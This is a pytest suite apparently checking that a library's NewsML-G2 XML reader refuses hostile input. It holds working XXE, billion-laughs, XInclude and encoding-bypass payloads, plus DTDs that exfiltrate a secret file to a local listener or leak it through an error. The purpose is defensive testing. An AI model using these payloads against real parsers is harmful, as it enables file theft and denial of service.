"""Hostile XML against the NewsML-G2 reader: each attack is a ParseError, refused early and
leak-free.

The issue asks: "The reader is safe on hostile XML: no entity expansion, no DTD loading,
no network, no XInclude, bounded depth and size. Tests for billion laughs, quadratic
blowup, external entities reading a local file, external DTDs, parameter entities,
XInclude, a 200 MB document, deeply nested elements and invalid UTF-8: each gives a
``ParseError`` within a second and never leaks file contents."

Every attack below is built here, and goes through every door of the reader:
``newsml.parse``, ``newsml.read``, ``bm.loads(…, "newsml")``, ``bm.load`` on a ``.xml``
file and ``bm.validate(…, "newsml")`` (which reports instead of raising). For each one:

- the outcome is a ``ParseError`` whose problem has a ``parse.*`` code, a message that
  names the problem and, where there is one, the line of the offending markup;
- it is refused before any work its size or nesting would ask for: the ``parse.*`` code
  says which check refused it (no wall-clock bound: a loaded machine would fail one at
  random; the speed of the reader is the benchmark's business, and a call that hangs is
  caught by the guard of ``tests/_hang.py``);
- a unique secret, held by a local file and by a local DTD, never shows in the error,
  its problem, a returned value or anything written to stdout/stderr;
- nothing connects to the network: Python's socket connect functions are replaced by
  recorders, and every URL the attacks name points at a local listening socket that
  would see a connection made from C (libxml2) as well;
- nothing is read from a FIFO the attacks name: a parser that opens one blocks, and is
  reported as soon as it has the FIFO open, instead of hanging the test run.

A genuine item written by ``bm.dumps`` passes the same doors, and near misses (comments,
character references, a BOM, deep but bounded nesting…) are read, so the attacks are
refused for what they are.
"""

from __future__ import annotations

import os
import re
import socket
import subprocess
import sys
import uuid
import warnings
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import attrs
import pytest
from benchmarks.workloads import hostile
from lxml import etree

import briefmodel as bm
from briefmodel.formats import newsml
from tests._work import assert_linear, hostile_run

from ..._hang import guarded
from ..._offline import connections as _connections

ROOT = Path(__file__).resolve().parents[3]

XI_2001 = "http://www.w3.org/2001/XInclude"
XI_2003 = "http://www.w3.org/2003/XInclude"
DOORS = ("parse", "read", "loads", "load", "validate")

Data = str | bytes


# ======================================================================================
# The carrier: a valid newsItem that every attack is planted in


CARRIER = bm.Brief(
    id="urn:example:hostile",
    headline="HEADLINE",
    created=datetime(2026, 5, 4, 8, tzinfo=timezone.utc),
    sections=[bm.Section(blocks=[bm.Paragraph(content="BODY")])],
)
_TEMPLATE = bm.dumps(CARRIER, "newsml", pretty=True)
_DECLARATION, _REST = _TEMPLATE.split("\n", 1)
_GENERATOR = '<generator versioninfo="1">briefmodel</generator>'
assert _GENERATOR in _TEMPLATE


def item(
    prolog: str = "",
    *,
    headline: str | None = None,
    title: str | None = None,
    body: str | None = None,
    guid: str | None = None,
    meta: str | None = None,
    root: str | None = None,
    encoding: str | None = None,
) -> str:
    """The carrier with an attack planted: ``prolog`` goes between the XML declaration and
    the root, the others replace the headline text, the body's title (which repeats the
    headline: an item whose title differs loses it), the body paragraph and the guid, or
    are inserted in contentMeta and on the root element."""
    declaration = _DECLARATION
    if encoding is not None:
        declaration = declaration.replace('encoding="UTF-8"', f'encoding="{encoding}"')
    text = declaration + "\n" + prolog + _REST
    for old, new in (
        ("<headline>HEADLINE</headline>", headline and f"<headline>{headline}</headline>"),
        ("<title>HEADLINE</title>", title and f"<title>{title}</title>"),
        ("<p>BODY</p>", body),
        ('guid="urn:example:hostile"', guid and f'guid="{guid}"'),
        ('<language tag="en"/>', meta and f'{meta}<language tag="en"/>'),
        ("<newsItem ", root and f"<newsItem {root} "),
    ):
        if new is not None:
            assert text.count(old) == 1, old
            text = text.replace(old, new)
    return text


def _sized(total: int, *, body: str = "<p>FILL</p>") -> bytes:
    """A valid item whose body paragraph is padded with ordinary text to ``total`` bytes."""
    head, tail = item(body=body).encode("utf-8").split(b"FILL")
    sentence = b"The harbour reopened after the storm. "
    size = total - len(head) - len(tail)
    fill = sentence * (size // len(sentence)) + b"x" * (size % len(sentence))
    data = head + fill + tail
    assert len(data) == total
    return data


def _nested(open_: str, close: str, depth: int) -> str:
    return open_ * depth + "deep" + close * depth


# ======================================================================================
# The local resources the attacks aim at


@dataclass(frozen=True)
class Env:
    secret: str
    secret_file: Path  # holds the secret
    dtd: Path  # a DTD whose entities hold (or name) the secret
    oob_dtd: Path  # out-of-band exfiltration: the secret file sent to the listener
    error_dtd: Path  # error-based exfiltration: the secret file in an error message
    fifo: Path  # a FIFO: opening it blocks, so a parser that reads it is caught
    port: int  # a local listening socket: a connection to it is seen

    @property
    def secret_uri(self) -> str:
        return self.secret_file.as_uri()

    @property
    def http(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory, listener: socket.socket) -> Env:
    folder = tmp_path_factory.mktemp("hostile")
    secret = f"BRIEFMODEL-SECRET-{uuid.uuid4().hex}"
    secret_file = folder / "secret.txt"
    secret_file.write_text(secret, encoding="utf-8")
    port = listener.getsockname()[1]
    uri = secret_file.as_uri()
    dtd = folder / "entities.dtd"
    dtd.write_text(f'<!ENTITY leak "{secret}">\n<!ENTITY file SYSTEM "{uri}">\n', encoding="utf-8")
    oob_dtd = folder / "oob.dtd"
    oob_dtd.write_text(
        f'<!ENTITY % file SYSTEM "{uri}">\n'
        f"<!ENTITY % all \"<!ENTITY send SYSTEM 'http://127.0.0.1:{port}/?d=%file;'>\">\n"
        "%all;\n",
        encoding="utf-8",
    )
    error_dtd = folder / "error.dtd"
    error_dtd.write_text(
        f'<!ENTITY % file SYSTEM "{uri}">\n'
        "<!ENTITY % eval \"<!ENTITY &#x25; error SYSTEM 'file:///nonexistent/%file;'>\">\n"
        "%eval;\n%error;\n",
        encoding="utf-8",
    )
    fifo = folder / "fifo"
    os.mkfifo(fifo)
    return Env(secret, secret_file, dtd, oob_dtd, error_dtd, fifo, port)


# ======================================================================================
# The attacks


DOCTYPE = frozenset({"parse.doctype"})
XINCLUDE = frozenset({"parse.xinclude"})
TOO_LARGE = frozenset({"parse.too-large"})
SYNTAX = frozenset({"parse.syntax"})
ENCODING = frozenset({"parse.encoding", "parse.syntax"})
DEEP = frozenset({"parse.syntax", "parse.too-deep"})
LONG = frozenset({"parse.syntax", "parse.too-large"})

SAYS_DOCTYPE = r"DOCTYPE|DTD"
SAYS_XINCLUDE = r"XInclude"
SAYS_SIZE = r"limit|too large"
SAYS_DEPTH = r"depth|deep|nest"
SAYS_LONG = r"too long|limit|huge|too large"
SAYS_ENCODING = r"encoding|UTF-8|bytes|surrogate"


@dataclass(frozen=True)
class Attack:
    name: str
    build: Callable[[Env], Data]
    codes: frozenset[str]
    says: str  # a regular expression the problem's message matches (case-insensitive)
    at: tuple[str, ...] = ()  # the problem is on the line of one of these
    bug: str | None = None  # a known hole: xfail (strict) with this reason
    doors: tuple[str, ...] = DOORS
    lines: bool = True  # False: the line is not checked

    @property
    def marks(self) -> tuple[pytest.MarkDecorator, ...]:
        return (pytest.mark.xfail(strict=True, reason=self.bug),) if self.bug else ()


def _doctype(subset: str, name: str = "newsItem") -> str:
    return f"<!DOCTYPE {name} [\n{subset}\n]>\n"


_LAUGHS = "\n".join(
    ['<!ENTITY lol "lol">']
    + [f'<!ENTITY lol{n} "{("&lol%s;" % ("" if n == 1 else n - 1)) * 10}">' for n in range(1, 10)]
)
_BIG = '<!ENTITY a "' + "A" * 100_000 + '">'


def _xinclude(href: str, namespace: str = XI_2001, parse: str = "text") -> str:
    return f'<xi:include xmlns:xi="{namespace}" href="{href}" parse="{parse}"/>'


def _bytes(text: str, old: bytes, new: bytes) -> bytes:
    data = text.encode("utf-8")
    assert data.count(old) == 1
    return data.replace(old, new)


def _without_bom(text: str, codec: str, declared: str) -> bytes:
    return text.replace('encoding="UTF-8"', f'encoding="{declared}"').encode(codec)


def doctype(name: str, build: Callable[[Env], Data], at: str = "<!DOCTYPE") -> Attack:
    return Attack(name, build, DOCTYPE, SAYS_DOCTYPE, (at,))


def xinclude(name: str, build: Callable[[Env], Data], *at: str) -> Attack:
    return Attack(name, build, XINCLUDE, SAYS_XINCLUDE, at or (XI_2001,))


def encoding(name: str, build: Callable[[Env], Data], at: str) -> Attack:
    return Attack(name, build, ENCODING, SAYS_ENCODING, (at,))


def deep(name: str, build: Callable[[Env], Data], at: str) -> Attack:
    return Attack(name, build, DEEP, SAYS_DEPTH, (at,))


def wide(name: str, build: Callable[[Env], Data]) -> Attack:
    codes = frozenset({"parse.encoding"}) | DOCTYPE | XINCLUDE
    return Attack(name, build, codes, r"UTF-16|UTF-32|DOCTYPE|XInclude", lines=False)


def bypass(name: str, build: Callable[[Env], Data], *, xi: bool = False, **more: Any) -> Attack:
    """Markup hidden from a byte search by an encoding's escape sequences, or spelled with a
    character reference: refused all the same (an encoding briefmodel does not read, or the
    DOCTYPE and XInclude found where the parser sees them)."""
    codes, says = (XINCLUDE, SAYS_XINCLUDE) if xi else (DOCTYPE, SAYS_DOCTYPE)
    codes |= {"parse.encoding"}
    return Attack(name, build, codes, says + "|encoding", lines=False, **more)


def _xxe(env: Env) -> str:
    return _doctype(f'<!ENTITY xxe SYSTEM "{env.secret_uri}">')


def _in_body(replacement: bytes) -> bytes:
    return _bytes(item(body="<p>BAD</p>"), b"BAD", replacement)


ATTACKS: list[Attack] = [
    # -- entity expansion ---------------------------------------------------------------
    doctype("billion-laughs", lambda e: item(_doctype(_LAUGHS, "lolz"), headline="&lol9;")),
    doctype("billion-laughs-in-body", lambda e: item(_doctype(_LAUGHS), body="<p>&lol9;</p>")),
    doctype("billion-laughs-in-attribute", lambda e: item(_doctype(_LAUGHS), guid="&lol9;")),
    # a 100 kB entity referenced a million times: a 3 MB document that expands to 100 GB
    doctype(
        "quadratic-blowup", lambda e: item(_doctype(_BIG), body="<p>" + "&a;" * 10**6 + "</p>")
    ),
    doctype("quadratic-blowup-in-attribute", lambda e: item(_doctype(_BIG), guid="&a;" * 200_000)),
    # -- external entities --------------------------------------------------------------
    doctype("xxe-file-in-headline", lambda e: item(_xxe(e), headline="&xxe;")),
    doctype("xxe-file-in-guid", lambda e: item(_xxe(e), guid="&xxe;")),
    doctype(
        "xxe-file-in-body-attribute",
        lambda e: item(_xxe(e), body='<p><a href="https://example.org/?q=&xxe;">link</a></p>'),
    ),
    doctype("xxe-file-in-body", lambda e: item(_xxe(e), body="<p>Leaked: &xxe;</p>")),
    doctype(
        "xxe-plain-path",
        lambda e: item(_doctype(f'<!ENTITY xxe SYSTEM "{e.secret_file}">'), headline="&xxe;"),
    ),
    doctype(
        "xxe-public-id",
        lambda e: item(
            _doctype(f'<!ENTITY xxe PUBLIC "-//Evil//ENTITIES Secret//EN" "{e.secret_uri}">'),
            headline="&xxe;",
        ),
    ),
    doctype(
        "xxe-http",
        lambda e: item(_doctype(f'<!ENTITY xxe SYSTEM "{e.http}/xxe">'), headline="&xxe;"),
    ),
    doctype(
        "xxe-fifo", lambda e: item(_doctype(f'<!ENTITY xxe SYSTEM "{e.fifo}">'), headline="&xxe;")
    ),
    # -- external DTDs -------------------------------------------------------------------
    doctype("dtd-http", lambda e: item(f'<!DOCTYPE newsItem SYSTEM "{e.http}/newsml.dtd">\n')),
    doctype(
        "dtd-local-file-with-entities",
        lambda e: item(f'<!DOCTYPE newsItem SYSTEM "{e.dtd.as_uri()}">\n', headline="&leak;"),
    ),
    doctype(
        "dtd-local-plain-path-external-entity",
        lambda e: item(f'<!DOCTYPE newsItem SYSTEM "{e.dtd}">\n', headline="&file;"),
    ),
    doctype(
        "dtd-local-and-internal-subset",
        lambda e: item(
            f'<!DOCTYPE newsItem SYSTEM "{e.dtd.as_uri()}" [<!ENTITY x "&leak;">]>\n',
            body="<p>&x;</p>",
        ),
    ),
    doctype(
        "dtd-public-id-http",
        lambda e: item(
            f'<!DOCTYPE newsItem PUBLIC "-//IPTC//DTD NewsML-G2 2.35//EN" "{e.http}/g2.dtd">\n'
        ),
    ),
    doctype(
        "dtd-public-id-local",
        lambda e: item(
            f'<!DOCTYPE newsItem PUBLIC "-//Evil//DTD X//EN" "{e.dtd.as_uri()}">\n',
            headline="&leak;",
        ),
    ),
    doctype(
        "dtd-public-id-xhtml",  # one a system XML catalog could resolve to a local file
        lambda e: item(
            '<!DOCTYPE newsItem PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
            '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n',
            body="<p>a&nbsp;b</p>",
        ),
    ),
    doctype("dtd-fifo", lambda e: item(f'<!DOCTYPE newsItem SYSTEM "{e.fifo}">\n', headline="&x;")),
    # -- parameter entities --------------------------------------------------------------
    doctype(
        "pe-local-dtd",
        lambda e: item(
            _doctype(f'<!ENTITY % ext SYSTEM "{e.dtd.as_uri()}">\n%ext;'), headline="&leak;"
        ),
    ),
    doctype(
        "pe-secret-file",
        lambda e: item(_doctype(f'<!ENTITY % xxe SYSTEM "{e.secret_uri}">\n%xxe;')),
    ),
    doctype(
        "pe-out-of-band",  # the local DTD sends the secret file to the listener
        lambda e: item(
            _doctype(f'<!ENTITY % remote SYSTEM "{e.oob_dtd.as_uri()}">\n%remote;'),
            headline="&send;",
        ),
    ),
    doctype(
        "pe-out-of-band-remote-dtd",
        lambda e: item(
            _doctype(f'<!ENTITY % remote SYSTEM "{e.http}/oob.dtd">\n%remote;'), headline="&send;"
        ),
    ),
    doctype(
        "pe-error-based",  # the secret file as the name of a file that does not exist
        lambda e: item(_doctype(f'<!ENTITY % remote SYSTEM "{e.error_dtd.as_uri()}">\n%remote;')),
    ),
    doctype(
        "pe-internal",
        lambda e: item(
            _doctype("<!ENTITY % decl \"<!ENTITY inner 'planted'>\">\n%decl;"), headline="&inner;"
        ),
    ),
    doctype("pe-fifo", lambda e: item(_doctype(f'<!ENTITY % f SYSTEM "{e.fifo}">\n%f;'))),
    # -- XInclude ------------------------------------------------------------------------
    xinclude("xinclude-2001-xml", lambda e: item(body=_xinclude(e.secret_uri, parse="xml"))),
    xinclude("xinclude-2001-text", lambda e: item(body=_xinclude(e.secret_uri))),
    xinclude("xinclude-2003-text", lambda e: item(body=_xinclude(e.secret_uri, XI_2003)), XI_2003),
    xinclude("xinclude-in-headline", lambda e: item(headline=_xinclude(e.secret_uri))),
    xinclude(
        "xinclude-namespace-on-root",
        lambda e: item(
            root=f'xmlns:xi="{XI_2001}"',
            body=f'<p><xi:include href="{e.secret_file}" parse="text"/></p>',
        ),
        XI_2001,
        "<xi:include",
    ),
    xinclude(
        "xinclude-default-namespace",
        lambda e: item(body=f'<include xmlns="{XI_2003}" href="{e.secret_uri}" parse="text"/>'),
        XI_2003,
    ),
    xinclude(
        "xinclude-with-fallback",
        lambda e: item(
            body=f'<xi:include xmlns:xi="{XI_2001}" href="/nonexistent">'
            f'<xi:fallback><xi:include href="{e.secret_uri}" parse="text"/></xi:fallback>'
            "</xi:include>"
        ),
    ),
    xinclude("xinclude-http", lambda e: item(body=_xinclude(f"{e.http}/x.xml", parse="xml"))),
    xinclude("xinclude-fifo", lambda e: item(body=_xinclude(str(e.fifo)))),
    # -- size ----------------------------------------------------------------------------
    Attack("size-200mb-bytes", lambda e: _sized(200 << 20), TOO_LARGE, SAYS_SIZE, lines=False),
    Attack(
        "size-200mb-str",
        lambda e: _sized(200 << 20).decode("utf-8"),
        TOO_LARGE,
        SAYS_SIZE,
        lines=False,
    ),
    Attack(
        "size-one-byte-over-the-limit",
        lambda e: _sized(newsml.MAX_BYTES + 1),
        TOO_LARGE,
        SAYS_SIZE,
        lines=False,
    ),
    Attack(  # under the document limit, but one text node over libxml2's 10 MB
        "size-11mb-text-node", lambda e: _sized(11 << 20), LONG, SAYS_LONG, ("<p>The harbour",)
    ),
    Attack(
        "size-11mb-attribute",
        lambda e: item(guid="urn:" + "g" * (11 << 20)),
        LONG,
        SAYS_LONG,
        ('guid="urn:ggg',),
    ),
    Attack(
        "size-100k-element-name",
        lambda e: item(body="<p" + "p" * 100_000 + ">x</p" + "p" * 100_000 + ">"),
        LONG,
        r"name|too long|limit",
        ("<ppppp",),
    ),
    # -- depth ---------------------------------------------------------------------------
    deep("depth-100k-in-body", lambda e: item(body=_nested("<div>", "</div>", 100_000)), "<div><"),
    deep(
        "depth-100k-inline",
        lambda e: item(body="<p>" + _nested("<em>", "</em>", 100_000) + "</p>"),
        "<em><",
    ),
    deep(
        "depth-100k-in-contentMeta",
        lambda e: item(meta=_nested("<keyword>", "</keyword>", 100_000)),
        "<keyword><",
    ),
    deep("depth-100k-unclosed", lambda e: item(body="<div>" * 100_000), "<div><"),
    # just past libxml2's bound of 256 levels
    deep("depth-300-in-body", lambda e: item(body=_nested("<div>", "</div>", 300)), "<div><"),
    # -- encodings -----------------------------------------------------------------------
    encoding("utf8-invalid-bytes-in-body", lambda e: _in_body(b"fees \xff\xfe paid"), "\xff"),
    encoding(
        "utf8-stray-continuation-in-headline",
        lambda e: _bytes(item(headline="BAD"), b"BAD", b"Port \x80 fees"),
        "\x80",
    ),
    encoding(
        "utf8-invalid-bytes-in-guid",
        lambda e: _bytes(item(guid="urn:BAD"), b"BAD", b"\xc3\x28"),
        "\xc3",
    ),
    encoding("utf8-truncated-sequence-in-text", lambda e: _in_body(b"price \xe2\x82"), "\xe2"),
    Attack(  # cut inside the headline's last character
        "utf8-truncated-document",
        lambda e: item(headline="Caf\u00e9").encode("utf-8").split(b"\xa9")[0],
        ENCODING,
        SAYS_ENCODING + r"|end|premature",
        ("\xc3",),
    ),
    encoding("utf8-overlong-less-than", lambda e: _in_body(b"a \xc0\xbc b"), "\xc0"),
    encoding("utf8-overlong-three-bytes", lambda e: _in_body(b"a \xe0\x80\xaf b"), "\xe0"),
    encoding("utf8-encoded-surrogate", lambda e: _in_body(b"a \xed\xa0\x80 b"), "\xed"),
    encoding("utf8-beyond-unicode", lambda e: _in_body(b"a \xf4\x90\x80\x80 b"), "\xf4"),
    encoding("str-lone-surrogate-in-text", lambda e: item(body="<p>a \ud800 b</p>"), "\ud800"),
    encoding("str-lone-surrogate-in-headline", lambda e: item(headline="P \udfff f"), "\udfff"),
    Attack(
        "utf16le-with-bom",
        lambda e: item(encoding="UTF-16").encode("utf-16"),
        frozenset({"parse.encoding"}),
        r"UTF-16",
        lines=False,
    ),
    Attack(
        "utf16be-with-bom",
        lambda e: b"\xfe\xff" + item(encoding="UTF-16").encode("utf-16-be"),
        frozenset({"parse.encoding"}),
        r"UTF-16",
        lines=False,
    ),
    Attack(
        "utf32-with-bom",
        lambda e: item(encoding="UTF-32").encode("utf-32"),
        frozenset({"parse.encoding"}),
        r"UTF-32",
        lines=False,
    ),
    Attack(
        "ebcdic",
        lambda e: item(encoding="IBM037").encode("cp037"),
        ENCODING,
        r"encoding",
        lines=False,
    ),
    # -- more ----------------------------------------------------------------------------
    doctype(
        "doctype-after-comment",
        lambda e: item(
            "<!-- a comment\n  on two lines -->\n" + _doctype(_LAUGHS), headline="&lol9;"
        ),
    ),
    doctype(
        "doctype-after-processing-instruction",
        lambda e: item('<?xml-stylesheet href="x.xsl"?>\n' + _xxe(e), headline="&xxe;"),
    ),
    doctype(
        "doctype-after-utf8-bom",
        lambda e: b"\xef\xbb\xbf" + item(_doctype(_LAUGHS), headline="&lol9;").encode(),
    ),
    Attack(  # as a file, the bytes are UTF-8 but say UTF-16: refused for that, or the DOCTYPE
        "doctype-in-str-declaring-utf16",
        lambda e: item(_xxe(e), headline="&xxe;", encoding="UTF-16"),
        DOCTYPE | {"parse.encoding"},
        SAYS_DOCTYPE + r"|encoding",
        lines=False,
    ),
    Attack(
        "doctype-inside-the-root",
        lambda e: item(body=f'<!DOCTYPE p [<!ENTITY xxe SYSTEM "{e.secret_uri}">]><p>&xxe;</p>'),
        DOCTYPE | SYNTAX,
        SAYS_DOCTYPE + r"|not well-formed",
        ("<!DOCTYPE",),
    ),
    Attack(  # not well-formed XML: refused, and not taken for anything else
        "doctype-lowercase",
        lambda e: item(_xxe(e).replace("DOCTYPE", "doctype"), headline="&xxe;"),
        DOCTYPE | SYNTAX,
        r"DOCTYPE|not well-formed",
        ("<!doctype",),
    ),
    Attack("undefined-entity", lambda e: item(headline="&xxe;"), SYNTAX, r"entity", ("&xxe;",)),
    Attack("html-entity", lambda e: item(body="<p>a&nbsp;b</p>"), SYNTAX, r"entity", ("&nbsp;",)),
    Attack("nul-byte", lambda e: _in_body(b"a\x00b"), ENCODING, r"char|0x0|NUL", ("\x00",)),
    Attack(
        "nul-character-in-str",
        lambda e: item(headline="a\x00b"),
        ENCODING,
        r"char|0x0|NUL",
        ("\x00",),
    ),
    Attack(
        "control-character",
        lambda e: item(body="<p>a\x1bb</p>"),
        ENCODING,
        r"char|0x1B",
        ("\x1b",),
    ),
    Attack("empty-document", lambda e: b"", SYNTAX, r"empty|not well-formed", lines=False),
    Attack("whitespace-only", lambda e: " \n\t\n ", SYNTAX, r"empty|well-formed", lines=False),
    # -- UTF-16 and UTF-32 without a BOM: libxml2 reads them from the declaration --------
    wide(
        "utf16le-without-bom-doctype",
        lambda e: _without_bom(item(_xxe(e), headline="&xxe;"), "utf-16-le", "UTF-16"),
    ),
    wide(  # were it read, libxml2 would open the FIFO and wait on it for good
        "utf16be-without-bom-dtd-fifo",
        lambda e: _without_bom(
            item(f'<!DOCTYPE newsItem SYSTEM "{e.fifo}">\n', headline="&x;"), "utf-16-be", "UTF-16"
        ),
    ),
    wide(
        "utf32be-without-bom-local-dtd",
        lambda e: _without_bom(
            item(f'<!DOCTYPE newsItem SYSTEM "{e.dtd.as_uri()}">\n', headline="&leak;"),
            "utf-32-be",
            "UTF-32",
        ),
    ),
    wide(
        "utf16le-without-bom-xinclude",
        lambda e: _without_bom(item(body=_xinclude(e.secret_uri)), "utf-16-le", "UTF-16"),
    ),
    # -- encodings whose escapes hide markup from a byte search --------------------------
    bypass(
        "bypass-iso-2022-jp-escape-in-doctype",
        lambda e: _bytes(
            item(_doctype('<!ENTITY x "planted">'), headline="&x;", encoding="ISO-2022-JP"),
            b"<!DOCTYPE",
            b"<\x1b(B!DOCTYPE",
        ),
    ),
    bypass(  # libxml2 opens the FIFO, and would wait on it for good
        "bypass-iso-2022-jp-escape-dtd-fifo",
        lambda e: _bytes(
            item(
                f'<!DOCTYPE newsItem SYSTEM "{e.fifo}">\n', headline="&x;", encoding="ISO-2022-JP"
            ),
            b"<!DOCTYPE",
            b"<\x1b(B!DOCTYPE",
        ),
        doors=("parse", "load"),
    ),
    bypass(
        "bypass-iso-2022-kr-shift-in-doctype",
        lambda e: _bytes(
            item(f'<!DOCTYPE newsItem SYSTEM "{e.dtd.as_uri()}">\n', encoding="ISO-2022-KR"),
            b"<!DOCTYPE",
            b"<\x0f!DOCTYPE",
        ),
    ),
    bypass(
        "bypass-hz-line-continuation-in-doctype",
        lambda e: _bytes(
            item(_xxe(e), headline="&xxe;", encoding="HZ-GB-2312"), b"<!DOCTYPE", b"<~\n!DOCTYPE"
        ),
    ),
    bypass(
        "bypass-utf7-doctype",
        lambda e: _bytes(
            item(_xxe(e), headline="&xxe;", encoding="UTF-7").replace("+", "+-"),
            b"<!DOCTYPE",
            b"+ADwAIQ-DOCTYPE",
        ),
    ),
    bypass(
        "bypass-iso-2022-jp-escape-in-xinclude-namespace",
        lambda e: _bytes(
            item(body=_xinclude(e.secret_uri), encoding="ISO-2022-JP"),
            b"2001/XInclude",
            b"2001/X\x1b(BInclude",
        ),
        xi=True,
    ),
    bypass(
        "bypass-xinclude-namespace-by-character-reference",
        lambda e: item(body=_xinclude(e.secret_uri, "http://www.w3.org/2001/&#88;Include")),
        xi=True,
    ),
]

_BUILT: dict[str, Data] = {}


def _data(attack: Attack, env: Env) -> Data:
    if attack.name not in _BUILT:
        _BUILT[attack.name] = attack.build(env)
    return _BUILT[attack.name]


def _cases() -> Iterator[Any]:
    names = [attack.name for attack in ATTACKS]
    assert len(names) == len(set(names))
    for attack in ATTACKS:
        for door in attack.doors:
            if door == "load" and attack.name.startswith(("str-", "size-200mb-str")):
                continue  # files hold bytes: the bytes twin of the case covers load()
            yield pytest.param(attack, door, id=f"{attack.name}-{door}", marks=attack.marks)


# ======================================================================================
# Running a door with a watch on time, files, network and output


@dataclass
class Outcome:
    value: Any = None
    error: BaseException | None = None


def _door(door: str, data: Data, tmp_path: Path) -> Callable[[], Any]:
    if door == "parse":
        return lambda: newsml.parse(data)
    if door == "read":
        return lambda: newsml.read(data)
    if door == "loads":
        return lambda: bm.loads(data, "newsml")
    if door == "validate":
        return lambda: bm.validate(data, "newsml")
    assert door == "load"
    path = tmp_path / "attack.xml"
    path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8", "surrogatepass"))
    return lambda: bm.load(path)


def _reading(fifo: Path) -> str | None:
    """Whether someone has the FIFO open for reading: if so, it gets EOF (so that the
    reader is not left blocked) and this says what happened."""
    try:
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
    except OSError:  # ENXIO: nobody has it open for reading
        return None
    return f"blocked reading the FIFO {fifo} the document names"


def _run(call: Callable[[], Any], env: Env) -> Outcome:
    def quietly() -> Any:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", bm.BriefmodelWarning)
            return call()

    returned = guarded(quietly, "the reader", poll=lambda: _reading(env.fifo))
    if returned.error is not None and not isinstance(returned.error, Exception):
        raise returned.error  # pytest's own outcomes, KeyboardInterrupt
    return Outcome(returned.value, returned.error)


def _short(value: Any) -> str:
    text = repr(value)
    return text if len(text) < 600 else text[:600] + "…"


def _texts(outcome: Outcome) -> list[str]:
    """Everything the outcome shows: messages, problems and returned data."""
    texts: list[str] = []
    error, value = outcome.error, outcome.value
    if error is not None:
        texts += [str(error), repr(error)]
        for problem in getattr(error, "problems", ()):
            texts += [problem.message, str(problem), repr(problem)]
    if isinstance(value, bm.Report):
        texts += [repr(value), *(str(p) for p in value.problems)]
        value = value.brief
    if isinstance(value, bm.Brief):
        texts += [repr(value), bm.dumps(value, "json")]
    elif isinstance(value, etree._Element):
        texts.append(etree.tostring(value, encoding="unicode"))
    elif value is not None:
        texts.append(repr(value))
    return texts


def _refusal(door: str, outcome: Outcome) -> bm.Problem:
    """The problem a door refused the document with."""
    if door == "validate":
        assert outcome.error is None, f"validate() raised {outcome.error!r} instead of reporting"
        report = outcome.value
        assert isinstance(report, bm.Report)
        assert not report.ok, f"validate() found it valid: {_short(report.problems)}"
        assert report.brief is None
        assert len(report.problems) == 1, _short(report.problems)
        return report.problems[0]
    got = repr(outcome.error) if outcome.error else f"a result, {_short(outcome.value)}"
    assert isinstance(outcome.error, bm.ParseError), f"expected a ParseError, got {got}"
    return outcome.error.problem


def _line_of(data: Data, marker: str) -> int | None:
    if isinstance(data, bytes):
        needle = marker.encode("latin-1") if max(marker) <= "\xff" else marker.encode()
        at = data.find(needle)
        return None if at < 0 else data.count(b"\n", 0, at) + 1
    at = data.find(marker)
    return None if at < 0 else data.count("\n", 0, at) + 1


@pytest.mark.parametrize(("attack", "door"), list(_cases()))
def test_attack_is_refused_quickly_and_leaks_nothing(
    attack: Attack,
    door: str,
    env: Env,
    listener: socket.socket,
    network: list[tuple[Any, ...]],
    tmp_path: Path,
    capfd: pytest.CaptureFixture[str],
) -> None:
    data = _data(attack, env)
    outcome = _run(_door(door, data, tmp_path), env)
    connections = _connections(listener)
    shown = [*_texts(outcome), *connections, *capfd.readouterr()]
    assert not any(env.secret in text for text in shown), "the secret leaked"
    assert not connections, f"connected to the network: {connections}"
    assert not network, f"tried the network: {network}"

    problem = _refusal(door, outcome)
    assert problem.severity == "error"
    assert problem.code in attack.codes, problem
    assert problem.message, problem
    assert re.search(attack.says, problem.message, re.IGNORECASE), problem
    if attack.lines and attack.at:
        lines = {_line_of(data, marker) for marker in attack.at} - {None}
        assert lines, f"none of {attack.at} is in the document"
        assert problem.line in lines, f"{problem} is not on line {sorted(lines)}"


# ======================================================================================
# The command line


def test_the_command_line_refuses_attacks_without_a_traceback(
    env: Env, listener: socket.socket, tmp_path: Path
) -> None:
    names = (
        "xxe-file-in-headline",
        "xinclude-2001-text",
        "billion-laughs",
        "utf8-overlong-less-than",
    )
    attacks = {attack.name: attack for attack in ATTACKS}
    files = []
    for name in names:
        path = tmp_path / f"{name}.xml"
        data = _data(attacks[name], env)
        path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
        files.append(path.name)
    done = subprocess.run(
        [sys.executable, "-m", "briefmodel", "validate", *files],
        cwd=tmp_path,
        capture_output=True,
        timeout=120,
        check=False,
    )
    out = done.stdout.decode("utf-8", "replace")
    err = done.stderr.decode("utf-8", "replace")
    assert done.returncode == 1, (done.returncode, out, err)  # 1: invalid or unreadable input
    assert "Traceback" not in out + err, err
    assert env.secret not in out + err
    assert not _connections(listener)
    for name, code in zip(
        names, ("parse.doctype", "parse.xinclude", "parse.doctype", "parse."), strict=True
    ):
        assert any(line.startswith(f"{name}.xml:") and code in line for line in out.splitlines()), (
            name,
            out,
        )
    assert out.splitlines()[-1] == f"{len(names)} files, {len(names)} invalid, 0 warnings"


# ======================================================================================
# What is not an attack is read


def _through_every_door(data: Data, tmp_path: Path, *, on_disk: bool = True) -> set[bm.Brief]:
    """The briefs the doors read from ``data`` (one, if they agree); validate() finds it valid.

    ``on_disk=False`` for text whose declaration names an encoding other than UTF-8: the
    declaration of a ``str`` is moot, but a file's bytes must be what it declares.
    """
    root = newsml.parse(data)
    assert root.tag == f"{{{newsml.NAR}}}newsItem"
    report = bm.validate(data, "newsml")
    assert report.ok, report.problems
    assert report.brief is not None
    briefs = [newsml.read(data), bm.loads(data, "newsml"), report.brief]
    if on_disk:
        path = tmp_path / "genuine.xml"
        path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
        briefs.append(bm.load(path))
    assert len(briefs) == len(DOORS) - (not on_disk) - 1  # parse() gives no brief
    return set(briefs)


